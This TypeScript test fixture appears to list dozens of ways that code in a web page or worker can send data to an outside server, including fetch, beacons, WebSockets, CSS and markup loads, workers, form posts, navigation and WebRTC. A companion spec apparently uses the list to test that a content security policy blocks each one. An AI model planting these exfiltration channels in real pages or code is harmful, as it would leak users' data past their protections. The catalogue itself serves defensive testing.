/**
 * Ways in which code in a page or in a worker could send data away; `leaks.spec.ts` tries each.
 *
 * A way is a line of code that a test plants in the built page. `to` and, within a text, TO is the address of a
 * listening server, and `host` its host and port. `put` adds markup.
 */

import type { UNSTOPPED } from "../../www/trust/unstopped";

export interface Way {
  readonly name: string;
  readonly code: string;
  /** What it is called in the panel, where no policy can stop it. */
  readonly passes?: keyof typeof UNSTOPPED;
  /** It takes the page away, or changes what others do: it gets a page of its own. */
  readonly alone?: true;
  /** It arrives as a bare connection or datagram, not as a request. */
  readonly bare?: true;
  /** It does not arrive without a policy either: it needs what a test on this machine does not have. */
  readonly dud?: true;
}

const blobOf = (code: string, type = "text/javascript") =>
  `URL.createObjectURL(new Blob([${code}], {type: "${type}"}))`;
const workerOf = (code: string, options = "{}") => `new Worker(${blobOf(code)}, ${options})`;
const sheet = (rule: string) =>
  `const sheet = new CSSStyleSheet(); sheet.replaceSync(${rule}); document.adoptedStyleSheets.push(sheet)`;
const FETCHES = "`fetch('TO', {mode: 'no-cors'})`";
const EVENT = "new MouseEvent('click', {bubbles: true, cancelable: true})";

const MARKUP: Readonly<Record<string, string>> = {
  image: `<img src="TO">`,
  "image set by srcset": `<img srcset="TO 1x">`,
  "picture source": `<picture><source srcset="TO"><img></picture>`,
  "image button": `<input type="image" src="TO">`,
  "table background": `<table background="TO"><tr><td>x</td></tr></table>`,
  "style attribute": `<div style="background: url(TO)">x</div>`,
  "style element": `<style>main { background: url(TO) }</style>`,
  "style element with an import": `<style>@import "TO";</style>`,
  "style sheet": `<link rel="stylesheet" href="TO">`,
  "style sheet for print": `<link rel="stylesheet" media="print" href="TO">`,
  prefetch: `<link rel="prefetch" href="TO">`,
  "preload of an image": `<link rel="preload" as="image" href="TO">`,
  "preload of a script": `<link rel="preload" as="script" href="TO">`,
  "preload of a style sheet": `<link rel="preload" as="style" href="TO">`,
  "preload of a font": `<link rel="preload" as="font" crossorigin href="TO">`,
  "preload of a fetch": `<link rel="preload" as="fetch" crossorigin href="TO">`,
  modulepreload: `<link rel="modulepreload" href="TO">`,
  script: `<script src="TO"></script>`,
  "module script": `<script type="module" src="TO"></script>`,
  "inline script": `<script>fetch("TO", {mode: "no-cors"})</script>`,
  "inline module with an import": `<script type="module">import "TO";</script>`,
  "event attribute": `<img src="data:," onerror='fetch("TO", {mode: "no-cors"})'>`,
  frame: `<iframe src="TO"></iframe>`,
  "frame with srcdoc": `<iframe srcdoc='<img src="TO">'></iframe>`,
  "frame with data": `<iframe src='data:text/html,<img src="TO">'></iframe>`,
  "frame with a script address": `<iframe src='javascript:fetch("TO", {mode: "no-cors"})'></iframe>`,
  object: `<object data="TO"></object>`,
  embed: `<embed src="TO">`,
  video: `<video src="TO" preload="auto"></video>`,
  "video source": `<video preload="auto"><source src="TO"></video>`,
  "video poster": `<video poster="TO"></video>`,
  audio: `<audio src="TO" preload="auto"></audio>`,
  "SVG image": `<svg><image href="TO" width="9" height="9"/></svg>`,
  "SVG use": `<svg><use href="TO#a"/></svg>`,
  "SVG filter image": `<svg><filter id="f"><feImage href="TO"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  "SVG mask": `<svg><rect width="9" height="9" mask="url(TO#a)"/></svg>`,
};

/**
 * Where a refusal throws in a worker's worker, it is caught: an error that nobody catches there reaches the page, which
 * ends its worker with all that was planted in it.
 */
const CALLS: Readonly<Record<string, string>> = {
  fetch: "fetch(to)",
  "fetch without CORS": "fetch(to, {method: 'POST', body: 'x', mode: 'no-cors'})",
  "fetch that outlives the page": "fetch(to, {keepalive: true})",
  "fetch for later": "fetchLater(to, {activateAfter: 0})",
  XMLHttpRequest: "const request = new XMLHttpRequest(); request.open('GET', to); request.send()",
  "XMLHttpRequest that waits": "const request = new XMLHttpRequest(); request.open('GET', to, false); request.send()",
  beacon: "navigator.sendBeacon(to, 'x')",
  EventSource: "new EventSource(to)",
  WebSocket: "new WebSocket(to.replace('http', 'ws'))",
  WebSocketStream: "new WebSocketStream(to.replace('http', 'ws'))",
  "image object": "new Image().src = to",
  "audio object": "new Audio(to).load()",
  "text track":
    "const video = document.createElement('video'); const track = document.createElement('track'); track.src = to; " +
    "video.append(track); document.body.append(video); track.track.mode = 'showing'",
  "font face": "new FontFace('f', `url(TO)`).load()",
  "font of a constructed sheet": `${sheet("`@font-face { font-family: g; src: url(TO) }`")}; document.fonts.load('9px g')`,
  "background of a constructed sheet": sheet("`main { background: url(TO) }`"),
  "SVG script":
    "put('<svg></svg>'); const script = document.createElementNS('http://www.w3.org/2000/svg', 'script'); " +
    "script.setAttribute('href', to); document.body.lastChild.append(script)",
  "import into the page's own sheet": "document.styleSheets[0].insertRule(`@import url(TO)`, 0)",
  "rule in the page's own sheet":
    "const [sheet] = document.styleSheets; sheet.insertRule(`html { background: url(TO) !important }`, sheet.cssRules.length)",
  "background by script": "put('<p>x</p>'); document.body.lastChild.style.backgroundImage = `url(TO)`",
  "image set by script": "document.body.style.backgroundImage = `image-set(url(TO) 1x)`",
  "list marker by script": "put('<ul><li>x</li></ul>'); document.body.lastChild.style.listStyleImage = `url(TO)`",
  "border by script":
    "put('<p>x</p>'); const p = document.body.lastChild; p.style.border = '9px solid'; p.style.borderImageSource = `url(TO)`",
  "mask by script": "put('<p>x</p>'); document.body.lastChild.style.maskImage = `url(TO)`",
  "content by script": "put('<p>x</p>'); document.body.lastChild.style.content = `url(TO)`",
  "shape by script":
    "put('<p>x</p>'); const p = document.body.lastChild; p.style.float = 'left'; p.style.shapeOutside = `url(TO)`",
  "filter by script": "put('<p>x</p>'); document.body.lastChild.style.filter = `url(TO#a)`",
  "import()": "import(to)",
  "import() of JSON": "import(to, {with: {type: 'json'}})",
  "import() of a style sheet": "import(to, {with: {type: 'css'}})",
  "import() from a blob": `import(${blobOf("`import 'TO'`")})`,
  eval: `(0, eval)(${FETCHES})`,
  "function from text": `new Function(${FETCHES})()`,
  "timer from text": `setTimeout(${FETCHES}, 0)`,
  "worker from an address": "new Worker(to)",
  "module worker from an address": "new Worker(to, {type: 'module'})",
  "worker from data": `new Worker('data:text/javascript,' + encodeURIComponent(${FETCHES}))`,
  "worker from a blob": workerOf(FETCHES),
  "worker from a blob that imports scripts": workerOf("`try { importScripts('TO') } catch {}`"),
  "module worker from a blob that imports": workerOf("`import 'TO'`", "{type: 'module'}"),
  "worker from a blob that makes another": workerOf("`new Worker(URL.createObjectURL(new Blob([\"fetch('TO')\"])))`"),
  "worker from a blob that makes another by address": workerOf("`try { new Worker('TO') } catch {}`"),
  "shared worker": "new SharedWorker(to)",
  "shared worker from a blob": `new SharedWorker(${blobOf(FETCHES)})`,
  "service worker": "navigator.serviceWorker.register(to)",
  "paint worklet": "CSS.paintWorklet.addModule(to)",
  "audio worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to)",
  "cache of a request": "caches.open('c').then((cache) => cache.add(to))",
  "empty frame with an image":
    "put('<iframe></iframe>'); const inner = document.body.lastChild.contentDocument; inner.body.innerHTML = `<img src='TO'>`",
  "empty frame with a fetch": "put('<iframe></iframe>'); document.body.lastChild.contentWindow.fetch(to)",
  "frame from a blob": `put(\`<iframe src="\${${blobOf("`<img src='TO'>`", "text/html")}}"></iframe>\`)`,
  "frame by name": "put('<iframe name=\"there\"></iframe>'); window.open(to, 'there')",
  "form into a frame":
    "put(`<iframe name=\"here\"></iframe><form action='TO' target='here' method='post'></form>`); document.forms[document.forms.length - 1].submit()",
  ping: `put(\`<a href="#x" ping="TO">x</a>\`); document.body.lastChild.dispatchEvent(${EVENT})`,
  "empty window with an image":
    "const there = window.open('about:blank'); there.document.body.innerHTML = `<img src='TO'>`; setTimeout(() => there.close(), 3000)",
};

/** These need a certificate, a permission, or a part of the browser that runs without a window. */
const DUDS: Readonly<Record<string, string>> = {
  WebTransport: "new WebTransport(to.replace('http:', 'https:'))",
  icon: "put(`<link rel='icon' href='TO'>`)",
  manifest: "put(`<link rel='manifest' href='TO'>`)",
  "prerender by rules": 'put(`<script type="speculationrules">{"prerender": [{"urls": ["TO"]}]}</script>`)',
  "artwork of what is played": "navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: to}]})",
  notification: "new Notification('x', {icon: to})",
  payment:
    "new PaymentRequest([{supportedMethods: to}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).show()",
  "identity of another site": "navigator.credentials.get({identity: {providers: [{configURL: to, clientId: 'x'}]}})",
  "report of a second policy":
    "put(`<meta http-equiv='Content-Security-Policy' content=\"object-src 'none'; report-uri TO\">`); put('<object data=\"data:text/html,x\"></object>')",
};

const ALONE: readonly Way[] = [
  { name: "base address", code: "put(`<base href='TO/'>`); put('<img src=\"x\">')" },
  { name: "form", code: "put(`<form action='TO' method='post'></form>`); document.forms[0].submit()" },
  { name: "form by query", code: "put(`<form action='TO'><input name='q'></form>`); document.forms[0].submit()" },
  {
    name: "button of a form",
    code: "put(`<form><button formaction='TO'></button></form>`); document.forms[0].requestSubmit(document.forms[0].firstChild)",
  },
  { name: "address of the page", code: "location.href = to", passes: "navigation" },
  { name: "replaced address", code: "location.replace(to)", passes: "navigation" },
  { name: "navigation object", code: "navigation.navigate(to)", passes: "navigation" },
  { name: "link", code: `put(\`<a href="TO">x</a>\`); document.body.lastChild.click()`, passes: "navigation" },
  {
    name: "link in a drawing",
    code: `put(\`<svg><a href="TO"><text y="9">x</text></a></svg>\`); document.body.lastChild.firstChild.dispatchEvent(${EVENT})`,
    passes: "navigation",
  },
  {
    name: "link into a new tab",
    code: `put(\`<a href="TO" target="_blank">x</a>\`); document.body.lastChild.click()`,
    passes: "navigation",
  },
  {
    name: "link that is downloaded",
    code: `put(\`<a href="TO" download="x">x</a>\`); document.body.lastChild.click()`,
    passes: "navigation",
  },
  {
    name: "refresh by markup",
    code: `put(\`<meta http-equiv="refresh" content="0; url=TO">\`)`,
    passes: "navigation",
  },
  { name: "new window", code: "window.open(to)", passes: "navigation" },
  { name: "new window without an opener", code: "window.open(to, '_blank', 'noopener')", passes: "navigation" },
  { name: "empty window that is sent on", code: "window.open('about:blank').location.href = to", passes: "navigation" },
  {
    name: "WebRTC by STUN",
    code: "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + host}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    bare: true,
    passes: "webrtc",
  },
  {
    name: "WebRTC by TURN over TCP",
    code: "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:' + host + '?transport=tcp', username: 'x', credential: 'y'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    bare: true,
    passes: "webrtc",
  },
  {
    name: "preconnect",
    code: "put(`<link rel='preconnect' href='TO'>`)",
    bare: true,
    passes: "preconnect",
    dud: true,
  },
];

const IN_A_WORKER: Readonly<Record<string, string>> = {
  fetch: CALLS.fetch ?? "",
  "fetch without CORS": CALLS["fetch without CORS"] ?? "",
  "fetch that outlives the page": CALLS["fetch that outlives the page"] ?? "",
  XMLHttpRequest: CALLS.XMLHttpRequest ?? "",
  "XMLHttpRequest that waits": CALLS["XMLHttpRequest that waits"] ?? "",
  EventSource: CALLS.EventSource ?? "",
  WebSocket: CALLS.WebSocket ?? "",
  WebSocketStream: CALLS.WebSocketStream ?? "",
  importScripts: "importScripts(to)",
  "import()": "import(to)",
  "font face": "new FontFace('f', `url(TO)`).load()",
  "cache of a request": CALLS["cache of a request"] ?? "",
  eval: CALLS.eval ?? "",
  "function from text": CALLS["function from text"] ?? "",
  "worker from an address": "new Worker(to)",
  "module worker from an address": "new Worker(to, {type: 'module'})",
  "worker from data": CALLS["worker from data"] ?? "",
  "worker from a blob": workerOf(FETCHES),
  "worker from a blob that imports scripts": CALLS["worker from a blob that imports scripts"] ?? "",
  "module worker from a blob that imports": CALLS["module worker from a blob that imports"] ?? "",
  "worker from a blob that makes another by address": CALLS["worker from a blob that makes another by address"] ?? "",
};

const DUDS_IN_A_WORKER: Readonly<Record<string, string>> = {
  WebTransport: DUDS.WebTransport ?? "",
  WebRTC: "new RTCPeerConnection({iceServers: [{urls: 'stun:' + host}]})",
  beacon: "navigator.sendBeacon(to)",
  "service worker": "navigator.serviceWorker.register(to)",
  notification: DUDS.notification ?? "",
};

const listed = (codes: Readonly<Record<string, string>>, more: Partial<Way> = {}): Way[] =>
  Object.entries(codes).map(([name, code]) => ({ name, code, ...more }));

const marked = Object.fromEntries(Object.entries(MARKUP).map(([name, markup]) => [name, `put(\`${markup}\`)`]));

export const PAGE_WAYS: readonly Way[] = [
  ...listed(marked),
  ...listed(CALLS),
  ...listed(DUDS, { dud: true }),
  ...ALONE.map((way) => ({ ...way, alone: true as const })),
];

export const WORKER_WAYS: readonly Way[] = [...listed(IN_A_WORKER), ...listed(DUDS_IN_A_WORKER, { dud: true })];
